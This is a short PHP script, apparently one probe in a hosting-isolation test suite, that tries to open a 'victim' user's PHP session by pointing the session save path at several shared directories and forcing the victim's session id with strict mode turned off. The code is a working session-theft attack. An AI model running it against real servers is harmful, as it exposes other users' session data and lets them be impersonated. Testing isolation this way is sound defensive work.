<?php
// The victim's session, by its name, in every directory where sessions are.
require __DIR__ . '/../prelude.php';
// Sessions must be opened before anything is sent.
ob_start();
need_functions('session_start');
foreach ([$victim->sessions, '/var/lib/php/sessions', '/tmp'] as $directory) {
    attempt("session in $directory", function () use ($directory, $victim) {
        session_save_path($directory);
        session_id($victim->session);
        $is_open = session_start(['read_and_close' => true, 'use_cookies' => 0, 'use_strict_mode' => 0]);
        return $is_open && $_SESSION ? $_SESSION : false;
    });
}
